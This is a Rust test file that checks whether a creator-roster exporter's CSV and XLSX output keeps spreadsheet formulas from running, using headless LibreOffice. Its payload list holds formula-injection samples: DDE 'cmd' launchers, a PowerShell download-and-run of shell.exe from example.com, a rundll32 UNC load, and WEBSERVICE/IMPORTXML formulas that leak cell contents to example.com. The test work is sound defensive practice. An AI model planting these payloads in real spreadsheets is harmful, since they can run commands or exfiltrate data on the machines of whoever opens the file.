//! Saved files as LibreOffice sees them: the same values, and nothing that runs. `cargo xtask test` installs it; elsewhere
//! there may be none (Debian: libreoffice-calc-nogui), nothing to compare with, and the tests say so.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use tierwise_core::domain::creator::{Creator, Network, Profile};
use tierwise_core::domain::money::Currency;
use tierwise_import::{Mapping, Table, creators};
use tierwise_roster::export;
use tierwise_roster::wire::Format;
use tierwise_roster::{Change, Roster, Twice, Who};

/// What spreadsheets are made to run with: the shapes in the lists of OWASP, PayloadsAllTheThings, payloadbox, nuclei and
/// others, without the hosts they name.
const PAYLOADS: [&str; 50] = [
    "=1+1",
    "=1+1\";=1+1",
    "=1+1,=1+1",
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "-2+3+cmd|'/C calc'!A1",
    "-1-cmd|'/C calc'!'A1'",
    "--1-cmd|'/C calc'!'A1'",
    "\\---1-cmd|'/C calc'!'A1'",
    "\"--1-cmd|'/C calc'!'A1'",
    "+cmd|'/C calc'!A0",
    "+hack(cmd|'/c calc.exe'!A",
    "=hack/cmd|'/c calc.exe'!A",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C calc'!A1@example.com",
    "=cmd|'/C powershell IEX(wget example.com/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\192.0.2.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
    "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A",
    "=         cmd|'/c calc.exe'!A",
    "=\tc\tm\td\t|'/C notepad'!'A2'",
    "=\ncmd|'/C calc'!A1",
    "=    C    m D     |    '/    c   c  al  c  .  e     x   e  '   !   A",
    "=\0C\0m\0d|'/C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=rundll321234567890abcdefghijklmnopqrstuvwxyz|'URL.dll,OpenURL calc.exe'!A",
    "-1-rundll32|'URL.dll,OpenURL calc'!A",
    "DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=EXEC(\"calc.exe\")",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A0",
    "=HYPERLINK(\"http://example.com?x=\"&A1,\"look\")",
    "@HYPERLINK(CHAR(34)&\"file:///C:/calc.exe\"&CHAR(34))",
    "=HYPERLINK(T(\"file:///C:/cmd.exe\"), \"click\")",
    "=WEBSERVICE(\"http://example.com\")",
    "@WEBSERVICE(CHAR(104)&CHAR(116)&CHAR(116)&CHAR(112))",
    "=IMPORTXML(CONCAT(\"http://example.com?v=\", A1), \"//a\")",
    "=IMPORTHTML(\"http://example.com\", \"table\", 1)",
    "=IMPORTDATA(\"http://example.com\")",
    "=IMPORTFEED(\"http://example.com\")",
    "=IMPORTRANGE(\"http://example.com\", \"A1\")",
    "='file:///etc/hostname'#$hostname.A1",
    "{=1+1}",
    "parts\" ;,=cmd|'/C notepad'!'A1'",
    "parts\",=cmd|'/C notepad'!'A1''\" ;,=cmd|'/C notepad'!'A2'",
    "<r><t>=1+1</t></r>",
    "–1+1",
    "−1+1",
];

/// What may stand before a formula, to get by a guard.
const BEFORE: [&str; 14] = [
    "", " ", "   ", "\t", "\r", "\n", "\r\n", "\0", "\u{a0}", "\u{200b}", "\u{feff}", "'", "''",
    "\"",
];
/// What a formula begins with, wide forms included.
const TRIGGERS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// Everything that is tried.
fn payloads() -> Vec<String> {
    let around = BEFORE
        .iter()
        .flat_map(|before| TRIGGERS.map(|sign| format!("{before}{sign}1+1")));
    PAYLOADS
        .map(str::to_owned)
        .into_iter()
        .chain(around)
        .collect()
}

fn roster() -> Roster {
    let mut roster = Roster::default();
    for (at, payload) in payloads().into_iter().enumerate() {
        let profile = Profile {
            network: Some(Network::Instagram),
            handle: format!("maker{at}"),
            followers: Some(1_234_567 + at as u64),
            likes: Some(1_234.5),
            ..Profile::default()
        };
        let creator = Creator {
            name: format!("Maker {at}"),
            profiles: vec![profile],
            notes: payload,
            ..Creator::default()
        };
        roster.add(&creator, Twice::Keep, &mut Change::default());
    }
    roster
}

/// A file as LibreOffice writes it as separated values once it has opened it; `None` where there is no LibreOffice.
fn opened(name: &str, bytes: &[u8]) -> Option<Vec<u8>> {
    let folder = Path::new(env!("CARGO_TARGET_TMPDIR")).join(name.replace('.', "-"));
    std::fs::create_dir_all(&folder).unwrap();
    let file = folder.join(name);
    std::fs::write(&file, bytes).unwrap();
    let out: PathBuf = folder.join("out");
    // Nothing of an earlier run is taken for an answer.
    let _ = std::fs::remove_dir_all(&out);
    let profile = format!(
        "-env:UserInstallation=file://{}",
        folder.join("profile").display()
    );
    let mut command = Command::new("soffice");
    command.args([profile.as_str(), "--headless"]);
    if name.ends_with(".csv") {
        // Commas, quotes, UTF-8, from the first line; quotes make nothing a text, as when a file is just opened.
        command.arg("--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false");
    }
    // The same out, texts in quotes, values as they are and not as they are shown.
    command.args([
        "--convert-to",
        "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,false,false",
    ]);
    command.arg("--outdir").arg(&out).arg(&file);
    match command.stdout(Stdio::null()).stderr(Stdio::null()).status() {
        Ok(status) => assert!(status.success(), "{status}"),
        Err(_) => {
            eprintln!("LibreOffice is not installed, so nothing is compared with it.");
            return None;
        }
    }
    let stem = file.file_stem().unwrap();
    Some(std::fs::read(out.join(stem).with_extension("csv")).unwrap())
}

#[test]
fn a_formula_that_nothing_guards_runs() {
    if let Some(seen) = opened("unguarded.csv", b"\"=1+1\",soap\n") {
        assert_eq!(String::from_utf8_lossy(&seen).trim(), "\"2\",\"soap\"");
    }
}

#[test]
fn a_spreadsheet_shows_what_is_there_and_runs_nothing() {
    let roster = roster();
    let whose: Vec<Who> = roster.everybody().map(|(who, _)| who).collect();
    let there: Vec<Creator> = roster.everybody().map(|(_, p)| roster.creator(p)).collect();
    for format in [Format::Csv, Format::Xlsx] {
        let mut bytes = export::roster(&roster, &whose, format);
        if format == Format::Xlsx {
            bytes = tierwise_workbook::write(&bytes).unwrap();
        }
        let Some(seen) = opened(&format!("tierwise.{}", format.ending()), &bytes) else {
            return;
        };
        let text = String::from_utf8_lossy(&seen);
        for wrong in ["#NAME?", "Err:", "#VALUE!", "#REF!", ",2,", "\"2\""] {
            assert!(!text.contains(wrong), "{wrong}: {text}");
        }
        let table = Table::read(&seen).unwrap();
        let mapping = Mapping::propose(&table);
        let (read, issues) = creators::read(&table, &mapping, Currency::USD);
        assert!(issues.is_empty(), "{issues:?}");
        for (read, there) in read.iter().zip(&there) {
            assert_eq!(read.profiles, there.profiles, "{format:?}");
            assert_eq!(plain(&read.notes), plain(&there.notes), "{format:?}");
        }
        assert_eq!(read.len(), there.len());
    }
}

/// Without what no cell of a spreadsheet can hold: LibreOffice drops control characters and ends lines its own way.
fn plain(text: &str) -> String {
    text.replace('\0', "")
        .replace('\r', "\n")
        .trim_start_matches(['\n', '\u{feff}'])
        .to_owned()
}
